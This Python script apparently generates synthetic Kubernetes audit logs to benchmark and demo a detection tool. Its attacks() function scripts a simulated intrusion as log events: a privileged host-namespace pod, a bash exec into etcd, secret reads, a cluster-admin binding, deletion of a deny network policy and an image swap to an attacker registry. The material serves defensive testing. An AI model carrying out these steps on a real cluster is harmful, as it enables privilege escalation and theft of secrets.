"""A realistic synthetic audit log: what a busy, healthy cluster writes, plus optional attacks.

Most events are Metadata-level reads, watches, lease renewals and status updates by
control-plane components and kubelets; a few are RequestResponse writes with full pod
specs (controllers creating pods, people deploying). About 1.1 KB per event on average.

    python bench/corpus.py --events 200000 --out bench/out/corpus.log
"""

from __future__ import annotations

import argparse
import datetime as dt
import json
import random
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

NODES = [f"ip-10-0-{i // 8}-{10 + i}.ec2.internal" for i in range(12)]
NAMESPACES = ["default", "kube-system", "monitoring", "bank", "payments", "web", "ingress-nginx"]
APPS = ["api", "frontend", "worker", "cache", "ledger", "gateway", "search", "billing"]
CP_IP = "10.0.0.5"


class _Clock:
    def __init__(self, start: dt.datetime, rate: float):
        self.t = start
        self.step = 1.0 / rate

    def tick(self, rng: random.Random) -> tuple[str, str]:
        self.t += dt.timedelta(seconds=rng.expovariate(1.0 / self.step))
        received = self.t
        done = received + dt.timedelta(microseconds=rng.randint(300, 40000))
        return _ts(received), _ts(done)


def _ts(t: dt.datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def _uri(group: str, resource: str, ns: str | None, name: str | None, sub: str | None = None,
         query: str = "") -> str:
    base = "/api/v1" if group == "" else f"/apis/{group}/v1"
    path = base + (f"/namespaces/{ns}" if ns else "") + f"/{resource}" + (f"/{name}" if name else "")
    if sub:
        path += f"/{sub}"
    return path + (f"?{query}" if query else "")


def event(rng: random.Random, clock: _Clock, *, user: str, groups: list[str], verb: str, resource: str | None,
          group: str = "", ns: str | None = None, name: str | None = None, sub: str | None = None,
          level: str = "Metadata", code: int = 200, ua: str = "kube-controller-manager/v1.30.4 (linux/amd64)",
          ip: str = CP_IP, request: Any = None, response: Any = None, uri: str | None = None,
          query: str = "", extra: dict | None = None, decision: str = "allow",
          reason: str | None = None) -> dict:
    received, done = clock.tick(rng)
    if reason is None:
        # what the RBAC authorizer writes: the binding, its role, and the subject it matched
        if user.startswith("system:serviceaccount:"):
            role, subject = f"system:controller:{user.rsplit(':', 1)[1]}", f'ServiceAccount "{user.rsplit(":", 1)[1]}/{user.split(":")[2]}"'
        else:
            role, subject = user if user.startswith("system:") else "view", f'User "{user}"'
        reason = f'RBAC: allowed by ClusterRoleBinding "{role}" of ClusterRole "{role}" to {subject}'
    ev: dict[str, Any] = {
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level, "auditID": str(uuid.UUID(int=rng.getrandbits(128))),
        "stage": "ResponseComplete",
        "requestURI": uri or _uri(group, resource or "", ns, name, sub, query),
        "verb": verb,
        "user": {"username": user, "uid": str(uuid.UUID(int=rng.getrandbits(128))), "groups": groups},
        "sourceIPs": [ip], "userAgent": ua,
        "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": received, "stageTimestamp": done,
        "annotations": {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": reason},
    }
    if extra:
        ev["user"]["extra"] = extra
    if resource is not None:
        ref = {"resource": resource, "apiVersion": "v1" if group == "" else f"{group}/v1"}
        if group:
            ref["apiGroup"] = group
        if ns:
            ref["namespace"] = ns
        if name:
            ref["name"] = name
        if sub:
            ref["subresource"] = sub
        if verb in ("update", "patch") and name:
            # what the apiserver records for writes to an existing object
            ref["uid"] = str(uuid.UUID(int=rng.getrandbits(128)))
            ref["resourceVersion"] = str(rng.randint(10**6, 10**8))
        ev["objectRef"] = ref
        if not query and uri is None:
            if verb == "watch":
                ev["requestURI"] += (f"?allowWatchBookmarks=true&resourceVersion={rng.randint(10**6, 10**8)}"
                                     f"&timeout={rng.randint(5, 9)}m{rng.randint(0, 59)}s"
                                     f"&timeoutSeconds={rng.randint(300, 600)}&watch=true")
            elif verb == "list":
                ev["requestURI"] += "?limit=500&resourceVersion=0"
    if request is not None:
        ev["requestObject"] = request
    if response is not None:
        ev["responseObject"] = response
    if code >= 400:
        ev["responseStatus"].update({"status": "Failure", "reason": "Forbidden" if code == 403 else "NotFound",
                                     "message": "request failed"})
    return ev


def pod_spec(rng: random.Random, app: str, *, privileged: bool = False, image: str | None = None) -> dict:
    sc: dict[str, Any] = {"allowPrivilegeEscalation": False, "runAsNonRoot": True,
                          "capabilities": {"drop": ["ALL"]}, "readOnlyRootFilesystem": True}
    if privileged:
        sc = {"privileged": True}
    return {
        "serviceAccountName": app,
        "containers": [{
            "name": app, "image": image or f"registry.example.com/{app}:{rng.randint(1, 40)}.{rng.randint(0, 9)}",
            "ports": [{"containerPort": 8080, "protocol": "TCP"}],
            "env": [{"name": "LOG_LEVEL", "value": "info"}, {"name": "PORT", "value": "8080"}],
            "resources": {"limits": {"cpu": "500m", "memory": "256Mi"}, "requests": {"cpu": "100m", "memory": "128Mi"}},
            "securityContext": sc,
            "volumeMounts": [{"name": "config", "mountPath": "/etc/app", "readOnly": True}],
        }],
        "volumes": [{"name": "config", "configMap": {"name": f"{app}-config"}}],
        "restartPolicy": "Always", "dnsPolicy": "ClusterFirst",
    }


def controller_pod(rng: random.Random, ns: str, app: str) -> dict:
    rs = f"{app}-{rng.getrandbits(32):08x}"[:16]
    name = f"{rs}-{rng.getrandbits(20):05x}"
    return {"kind": "Pod", "apiVersion": "v1",
            "metadata": {"name": name, "generateName": rs + "-", "namespace": ns,
                         "labels": {"app": app, "pod-template-hash": rs[-10:]},
                         "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": rs,
                                              "uid": str(uuid.UUID(int=rng.getrandbits(128))),
                                              "controller": True, "blockOwnerDeletion": True}]},
            "spec": pod_spec(rng, app)}


def _pod_ip(app: str, replica: int) -> str:
    """A pod keeps its IP for its life: each of an app's replicas calls from one address."""
    h = sum(map(ord, app)) * 7 + replica * 13
    return f"10.244.{h % 12}.{2 + h % 240}"


def _bound_token(rng: random.Random, pod: str, node: str) -> dict:
    """``user.extra`` of a projected ServiceAccount token, as kube-apiserver 1.30 records it."""
    return {"authentication.kubernetes.io/credential-id": [f"JTI={uuid.UUID(int=rng.getrandbits(128))}"],
            "authentication.kubernetes.io/node-name": [node],
            "authentication.kubernetes.io/node-uid": [str(uuid.UUID(int=rng.getrandbits(128)))],
            "authentication.kubernetes.io/pod-name": [f"{pod}-{rng.getrandbits(24):06x}"],
            "authentication.kubernetes.io/pod-uid": [str(uuid.UUID(int=rng.getrandbits(128)))]}


def benign(rng: random.Random, clock: _Clock) -> dict:
    """One event of ordinary traffic, drawn by its real-world frequency.

    Calibrated against a real kubeadm cluster's trace (corpus/perfspec_k8s_event_dataset):
    there, even during Helm installs, pod creations are 0.5% of events; here writes with
    full pod specs (pod creations and ReplicaSet template updates) are 3%, to err on the
    expensive side.
    """
    r = rng.random()
    node = rng.choice(NODES)
    ns = rng.choice(NAMESPACES)
    app = rng.choice(APPS)
    kubelet = {"user": f"system:node:{node}", "groups": ["system:nodes", "system:authenticated"],
               "ua": "kubelet/v1.30.4 (linux/amd64) kubernetes/a51b3b7", "ip": f"10.0.1.{NODES.index(node) + 20}",
               "reason": ""}
    kcm = {"user": "system:kube-controller-manager", "groups": ["system:authenticated"]}
    if r < 0.22:  # kubelet lease renewal
        return event(rng, clock, **kubelet, verb="update", resource="leases", group="coordination.k8s.io",
                     ns="kube-node-lease", name=node)
    if r < 0.34:  # kubelet node status
        return event(rng, clock, **kubelet, verb="patch", resource="nodes", name=node, sub="status")
    if r < 0.46:  # kubelet reads its pods' configmaps/secrets
        return event(rng, clock, **kubelet, verb=rng.choice(["get", "watch", "list"]),
                     resource=rng.choice(["configmaps", "secrets", "pods", "services"]), ns=ns,
                     name=f"{app}-config" if rng.random() < 0.5 else None)
    if r < 0.58:  # controller-manager leader election and status updates
        if rng.random() < 0.5:
            return event(rng, clock, **kcm, verb="update", resource="leases", group="coordination.k8s.io",
                         ns="kube-system", name="kube-controller-manager")
        return event(rng, clock, **kcm, verb="update", resource=rng.choice(["deployments", "replicasets"]),
                     group="apps", ns=ns, name=app, sub="status")
    if r < 0.66:  # scheduler
        sched = {"user": "system:kube-scheduler", "groups": ["system:authenticated"],
                 "ua": "kube-scheduler/v1.30.4 (linux/amd64)"}
        if rng.random() < 0.6:
            return event(rng, clock, **sched, verb="update", resource="leases", group="coordination.k8s.io",
                         ns="kube-system", name="kube-scheduler")
        return event(rng, clock, **sched, verb="create", resource="pods", ns=ns, name=f"{app}-x", sub="binding",
                     code=201)
    if r < 0.80:  # in-cluster service accounts watching the API
        sa = rng.choice([("kube-system", "coredns"), ("monitoring", "prometheus"), ("kube-system", "kube-proxy"),
                         ("ingress-nginx", "ingress-nginx")])
        return event(rng, clock, user=f"system:serviceaccount:{sa[0]}:{sa[1]}",
                     groups=["system:serviceaccounts", f"system:serviceaccounts:{sa[0]}", "system:authenticated"],
                     verb=rng.choice(["list", "watch", "get"]),
                     resource=rng.choice(["endpointslices", "services", "namespaces", "pods", "nodes"]),
                     group="discovery.k8s.io" if rng.random() < 0.2 else "", ua="Go-http-client/2.0",
                     ip=_pod_ip(sa[1], rng.randrange(3)), extra=_bound_token(rng, sa[1], node))
    if r < 0.84:  # core events written by kubelets and controllers
        return event(rng, clock, **kubelet, verb="create", resource="events", ns=ns, code=201)
    if r < 0.88:  # health probes (anonymous, allowed by system:public-info-viewer)
        path = rng.choice(["/healthz", "/livez", "/readyz", "/version"])
        return event(rng, clock, user="system:anonymous", groups=["system:unauthenticated"], verb="get",
                     resource=None, uri=path, ua="kube-probe/1.30", ip="10.0.0.1",
                     reason='RBAC: allowed by ClusterRoleBinding "system:public-info-viewer"')
    if r < 0.895:  # the deployment controller rolling a ReplicaSet template, RequestResponse
        rs = {"kind": "ReplicaSet", "apiVersion": "apps/v1",
              "metadata": {"name": f"{app}-{rng.getrandbits(32):08x}", "namespace": ns, "labels": {"app": app}},
              "spec": {"replicas": rng.randint(1, 5), "selector": {"matchLabels": {"app": app}},
                       "template": {"metadata": {"labels": {"app": app}}, "spec": pod_spec(rng, app)}}}
        return event(rng, clock, user="system:serviceaccount:kube-system:deployment-controller",
                     groups=["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
                     verb="update", resource="replicasets", group="apps", ns=ns, name=rs["metadata"]["name"],
                     level="RequestResponse", request=rs, response=rs,
                     extra=_bound_token(rng, "kube-controller-manager", node))
    if r < 0.915:  # controller creating pods with full specs, RequestResponse
        pod = controller_pod(rng, ns, app)
        resp = json.loads(json.dumps(pod))
        resp["metadata"].update({"uid": str(uuid.UUID(int=rng.getrandbits(128))), "resourceVersion": str(rng.randint(10**5, 10**7)),
                                 "creationTimestamp": clock.t.strftime("%Y-%m-%dT%H:%M:%SZ")})
        resp["status"] = {"phase": "Pending", "qosClass": "Burstable"}
        return event(rng, clock, user="system:serviceaccount:kube-system:replicaset-controller",
                     groups=["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
                     verb="create", resource="pods", ns=ns, level="RequestResponse", code=201, request=pod,
                     response=resp)
    # people doing ordinary work
    person = rng.choice([("alice", ["devs"]), ("bob", ["devs"]), ("carol", ["sre", "system:authenticated"])])
    ua = "kubectl/v1.30.2 (darwin/arm64) kubernetes/3968350"
    if rng.random() < 0.85:
        return event(rng, clock, user=person[0], groups=person[1] + ["system:authenticated"],
                     verb=rng.choice(["get", "list"]), resource=rng.choice(["pods", "deployments", "services", "events"]),
                     group="", ns=ns, ua=ua, ip=f"192.0.2.{rng.randint(10, 60)}")
    ns = rng.choice(["default", "web", "monitoring"])  # GitOps-managed namespaces are not edited by hand
    cm = {"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": f"{app}-config", "namespace": ns},
          "data": {"LOG_LEVEL": rng.choice(["info", "debug"])}}
    return event(rng, clock, user=person[0], groups=person[1] + ["system:authenticated"], verb="patch",
                 resource="configmaps", ns=ns, name=f"{app}-config", level="Request", request=cm, ua=ua,
                 ip=f"192.0.2.{rng.randint(10, 60)}")


def generate(n: int, seed: int = 7, start: dt.datetime | None = None, rate: float = 400.0) -> Iterator[dict]:
    """``n`` benign events, ``rate`` per second of simulated time, reproducible by seed."""
    rng = random.Random(seed)
    clock = _Clock(start or dt.datetime(2026, 11, 23, 8, 0, tzinfo=dt.UTC), rate)
    for _ in range(n):
        yield benign(rng, clock)


def write(path: Path, n: int, seed: int = 7) -> int:
    path.parent.mkdir(parents=True, exist_ok=True)
    size = 0
    with path.open("w", encoding="utf-8") as fh:
        for ev in generate(n, seed):
            line = json.dumps(ev, separators=(",", ":")) + "\n"
            size += len(line)
            fh.write(line)
    return size


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--events", type=int, default=200_000)
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--out", type=Path, default=Path("bench/out/corpus.log"))
    ap.add_argument("--sample", action="store_true", help="write the demo log (examples/sample-audit.log) instead")
    args = ap.parse_args()
    if args.sample:
        write_sample(Path("examples/sample-audit.log"))
        return
    size = write(args.out, args.events, args.seed)
    print(f"{args.events} events, {size / args.events:.0f} bytes/event, {size / 1e6:.1f} MB -> {args.out}")



def attacks(seed: int = 11, start: dt.datetime | None = None) -> list[dict]:
    """A small intrusion, step by step, for the demo and end-to-end tests."""
    rng = random.Random(seed)
    clock = _Clock(start or dt.datetime(2026, 11, 23, 20, 40, tzinfo=dt.UTC), 2.0)  # 23:40 in Moscow
    web_sa = "system:serviceaccount:web:frontend"
    sa_groups = ["system:serviceaccounts", "system:serviceaccounts:web", "system:authenticated"]
    pod_ip = "10.244.3.17"
    out = [
        # A stolen workload token probes its own rights...
        event(rng, clock, user=web_sa, groups=sa_groups, verb="create", resource="selfsubjectrulesreviews",
              group="authorization.k8s.io", code=201, ua="kubectl/v1.30.2 (linux/amd64)", ip=pod_ip,
              request={"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1",
                       "spec": {"namespace": "web"}}, level="Request"),
    ]
    # ...then walks the namespaces looking for secrets and is refused again and again.
    for ns in ["kube-system", "bank", "payments", "monitoring", "default", "ingress-nginx", "kube-public",
               "bank", "payments", "kube-system", "default", "monitoring"]:
        out.append(event(rng, clock, user=web_sa, groups=sa_groups, verb="list", resource="secrets", ns=ns,
                         code=403, decision="forbid", reason="", ua="kubectl/v1.30.2 (linux/amd64)", ip=pod_ip))
    ua = "kubectl/v1.30.2 (darwin/arm64) kubernetes/3968350"
    mallory = {"user": "mallory", "groups": ["devs", "system:authenticated"], "ua": ua, "ip": "203.0.113.66"}
    priv = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "debug-tools", "namespace": "default"},
            "spec": {"hostPID": True, "hostNetwork": True,
                     "containers": [{"name": "shell", "image": "docker.io/library/alpine:3.20",
                                     "command": ["sleep", "infinity"],
                                     "securityContext": {"privileged": True}}]}}
    out += [
        # A person outside working hours starts a privileged, host-namespace pod by hand...
        event(rng, clock, **mallory, verb="create", resource="pods", ns="default", level="RequestResponse",
              code=201, request=priv, response=priv),
        # ...opens a shell in a control-plane pod...
        event(rng, clock, **mallory, verb="create", resource="pods", ns="kube-system",
              name="etcd-ip-10-0-0-5.ec2.internal", sub="exec", code=101,
              query="command=%2Fbin%2Fbash&container=etcd&stdin=true&stdout=true&tty=true"),
        # ...reads the honeytoken secret...
        event(rng, clock, **mallory, verb="get", resource="secrets", ns="default", name="db-admin-credentials"),
        # ...makes a service account cluster-admin...
        event(rng, clock, **mallory, verb="create", resource="clusterrolebindings",
              group="rbac.authorization.k8s.io", name="backup-admin", level="Request", code=201,
              request={"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
                       "metadata": {"name": "backup-admin"},
                       "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                                   "name": "cluster-admin"},
                       "subjects": [{"kind": "ServiceAccount", "name": "frontend", "namespace": "web"}]}),
        # ...opens the network...
        event(rng, clock, **mallory, verb="delete", resource="networkpolicies", group="networking.k8s.io",
              ns="payments", name="default-deny"),
        # ...and changes a GitOps-managed deployment by hand.
        event(rng, clock, **mallory, verb="patch", resource="deployments", group="apps", ns="bank", name="ledger",
              level="Request",
              request={"spec": {"template": {"spec": {"containers": [
                  {"name": "ledger", "image": "203.0.113.66:5000/ledger:evil"}]}}}}),
        # Anonymous access that should never be allowed.
        event(rng, clock, user="system:anonymous", groups=["system:unauthenticated"], verb="list",
              resource="secrets", ns="kube-system", ua="curl/8.5.0", ip="198.51.100.23",
              reason='RBAC: allowed by ClusterRoleBinding "anon-view"'),
    ]
    return out


def write_sample(path: Path, benign_events: int = 600) -> None:
    """The bundled demo log: ordinary traffic with the intrusion of :func:`attacks` woven in."""
    events = list(generate(benign_events, seed=3, start=dt.datetime(2026, 11, 23, 20, 38, tzinfo=dt.UTC), rate=2.0))
    events += attacks()
    events.sort(key=lambda e: e["stageTimestamp"])
    with path.open("w", encoding="utf-8") as fh:
        for ev in events:
            fh.write(json.dumps(ev, separators=(",", ":")) + "\n")


if __name__ == "__main__":
    main()
